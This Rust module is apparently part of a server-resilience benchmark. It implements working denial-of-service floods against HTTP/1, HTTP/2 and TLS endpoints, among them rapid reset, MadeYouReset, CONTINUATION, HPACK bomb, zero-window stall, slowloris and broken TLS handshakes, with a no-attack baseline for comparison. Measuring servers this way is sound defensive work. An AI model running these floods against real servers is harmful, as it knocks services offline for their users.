//! The attacks that `figures` measures. Each takes what one client may do again and again.

use crate::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, block, frame, get, literal,
};
use std::io::{ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::{Duration, Instant};

/// Where a server listens, and a page of 8 MB that it has.
#[derive(Clone, Copy)]
pub struct Addresses {
    pub http1: SocketAddr,
    pub http2: SocketAddr,
    pub tls: SocketAddr,
}

pub const LARGE: &str = "/files/large";
/// Streams or requests of one round of an attack. A server may end the connection earlier.
const ROUND: u32 = 2000;

/// An attack: its name, its number of clients, and what each of them does until the deadline.
pub struct Scene {
    pub name: &'static str,
    pub clients: usize,
    pub run: fn(Addresses, Instant),
}

pub const SCENES: &[Scene] = &[
    // Not an attack: the figures of the others are compared with its figures.
    Scene { name: "none", clients: 1, run: none },
    Scene { name: "rapid reset (CVE-2023-44487)", clients: 8, run: rapid_reset },
    Scene { name: "MadeYouReset (CVE-2025-8671)", clients: 8, run: made_you_reset },
    Scene { name: "CONTINUATION without end", clients: 8, run: continuation },
    Scene { name: "SETTINGS", clients: 8, run: settings },
    Scene { name: "PING", clients: 8, run: pings },
    Scene { name: "empty DATA", clients: 8, run: empty_data },
    Scene { name: "DATA of one byte", clients: 8, run: tiny_data },
    Scene { name: "a window of 0 (CVE-2019-9517)", clients: 20, run: window_stall },
    Scene { name: "HPACK bomb (CVE-2016-6581)", clients: 8, run: hpack_bomb },
    Scene { name: "POST streams without a body", clients: 20, run: idle_posts },
    Scene { name: "headers a byte at a time", clients: 4, run: slowloris },
    Scene { name: "downloads that are not read", clients: 4, run: unread },
    Scene { name: "TLS handshakes broken off", clients: 8, run: broken_handshakes },
];

fn none(_: Addresses, until: Instant) {
    std::thread::sleep(until.saturating_duration_since(Instant::now()));
}

fn connect(address: SocketAddr) -> Option<TcpStream> {
    let stream = TcpStream::connect(address).ok()?;
    stream.set_write_timeout(Some(Duration::from_millis(500))).ok()?;
    Some(stream)
}

/// Sends these bytes on new connections over HTTP/2, each until the server ends it.
fn flood(address: SocketAddr, until: Instant, settings: &[u8], begin: &[u8], bytes: &[u8]) {
    let hello = [PREFACE, &frame(SETTINGS, 0, 0, settings), begin].concat();
    while Instant::now() < until {
        let Some(mut stream) = connect(address) else { continue };
        let mut is_open = stream.write_all(&hello).is_ok();
        while is_open && Instant::now() < until {
            is_open = stream.write_all(bytes).is_ok();
        }
    }
}

/// Sends a round of streams, again and again on new connections.
fn rounds(address: SocketAddr, until: Instant, stream: impl Fn(u32) -> Vec<u8>) {
    let round: Vec<u8> = (0..ROUND).flat_map(|n| stream(2 * n + 1)).collect();
    while Instant::now() < until {
        let Some(mut connection) = connect(address) else { continue };
        let _ = connection.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, b"")].concat());
        let _ = connection.write_all(&round);
    }
}

fn rapid_reset(at: Addresses, until: Instant) {
    rounds(at.http2, until, |n| [get(n, "/page"), frame(RST_STREAM, 0, n, &[0, 0, 0, 8])].concat());
}

fn made_you_reset(at: Addresses, until: Instant) {
    let too_much = [0x7f, 255, 255, 255];
    rounds(at.http2, until, |n| [get(n, "/page"), frame(WINDOW_UPDATE, 0, n, &too_much)].concat());
}

fn continuation(at: Addresses, until: Instant) {
    let begin = frame(HEADERS, END_STREAM, 1, &block("GET", "/page"));
    let more: Vec<u8> = (0..100).flat_map(|n| literal("x", &format!("{n}"))).collect();
    flood(at.http2, until, b"", &begin, &frame(CONTINUATION, 0, 1, &more));
}

fn settings(at: Addresses, until: Instant) {
    flood(at.http2, until, b"", b"", &frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 1, 0]).repeat(500));
}

fn pings(at: Addresses, until: Instant) {
    flood(at.http2, until, b"", b"", &frame(PING, 0, 0, b"12345678").repeat(500));
}

fn empty_data(at: Addresses, until: Instant) {
    let begin = frame(HEADERS, END_HEADERS, 1, &block("POST", "/page"));
    flood(at.http2, until, b"", &begin, &frame(DATA, 0, 1, b"").repeat(500));
}

fn tiny_data(at: Addresses, until: Instant) {
    let begin = frame(HEADERS, END_HEADERS, 1, &block("POST", "/page"));
    flood(at.http2, until, b"", &begin, &frame(DATA, 0, 1, b"x").repeat(500));
}

/// One large entry of the dynamic table, named again and again.
fn hpack_bomb(at: Addresses, until: Instant) {
    rounds(at.http2, until, |n| {
        let mut header = block("GET", "/page");
        // A literal with incremental indexing: name `x`, a value of 3,900 bytes; then its index.
        header.extend([0x40, 1, b'x', 0x7f, 0xbd, 0x1d]);
        header.extend([b'y'; 3900]);
        header.extend([0xbe; 10_000]);
        frame(HEADERS, END_STREAM | END_HEADERS, n, &header)
    });
}

/// Opens a connection with these streams, and keeps it until the deadline or the server's close.
fn hold(address: SocketAddr, until: Instant, settings: &[u8], streams: &[u8]) {
    while Instant::now() < until {
        let Some(mut stream) = connect(address) else { continue };
        let _ = stream.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, settings), streams].concat());
        wait_for_close(&mut stream, until);
    }
}

fn wait_for_close(stream: &mut TcpStream, until: Instant) {
    let _ = stream.set_read_timeout(Some(Duration::from_millis(50)));
    let mut piece = [0; 4096];
    while Instant::now() < until {
        match stream.read(&mut piece) {
            Ok(0) => return,
            Err(e) if !matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => return,
            _ => {}
        }
    }
}

/// SETTINGS_INITIAL_WINDOW_SIZE = 0: the server may send no DATA.
fn window_stall(at: Addresses, until: Instant) {
    let streams: Vec<u8> = (0..100).flat_map(|n| get(2 * n + 1, LARGE)).collect();
    hold(at.http2, until, &[0, 4, 0, 0, 0, 0], &streams);
}

fn idle_posts(at: Addresses, until: Instant) {
    let header = [block("POST", "/page"), literal("content-length", "9")].concat();
    let streams: Vec<u8> =
        (0..100).flat_map(|n| frame(HEADERS, END_HEADERS, 2 * n + 1, &header)).collect();
    hold(at.http2, until, b"", &streams);
}

/// Holds `count` HTTP/1 connections that have sent `begin`, and sends `more` on each in turn.
fn hold_many(at: Addresses, until: Instant, count: usize, begin: &[u8], more: &[u8]) {
    let mut held: Vec<TcpStream> = Vec::new();
    while Instant::now() < until {
        held.retain_mut(|stream| more.is_empty() || stream.write_all(more).is_ok());
        while held.len() < count && Instant::now() < until {
            let Some(mut stream) = connect(at.http1) else { break };
            if stream.write_all(begin).is_ok() {
                held.push(stream);
            }
        }
        std::thread::sleep(Duration::from_millis(50));
    }
}

fn slowloris(at: Addresses, until: Instant) {
    hold_many(at, until, 500, b"GET /page HTTP/1.1\r\nHost: a\r\nX: ", b"y");
}

fn unread(at: Addresses, until: Instant) {
    let request = format!("GET {LARGE} HTTP/1.1\r\nHost: a\r\n\r\n");
    hold_many(at, until, 75, request.as_bytes(), b"");
}

fn broken_handshakes(at: Addresses, until: Instant) {
    let hello = client_hello();
    while Instant::now() < until {
        if let Some(mut stream) = connect(at.tls)
            && stream.write_all(&hello).is_ok()
        {
            // The first byte of the answer shows that the server has done its part of the key
            // exchange.
            let _ = stream.set_read_timeout(Some(Duration::from_millis(500)));
            let _ = stream.read(&mut [0]);
        }
    }
}

/// The first message of a TLS handshake.
fn client_hello() -> Vec<u8> {
    let provider = std::sync::Arc::new(rustls::crypto::ring::default_provider());
    let config = rustls::ClientConfig::builder_with_provider(provider);
    let config = config.with_safe_default_protocol_versions().unwrap();
    let config = config.with_root_certificates(rustls::RootCertStore::empty());
    let config = std::sync::Arc::new(config.with_no_client_auth());
    let name = "edge.test".try_into().unwrap();
    let mut connection = rustls::ClientConnection::new(config, name).unwrap();
    let mut hello = Vec::new();
    connection.write_tls(&mut hello).unwrap();
    hello
}
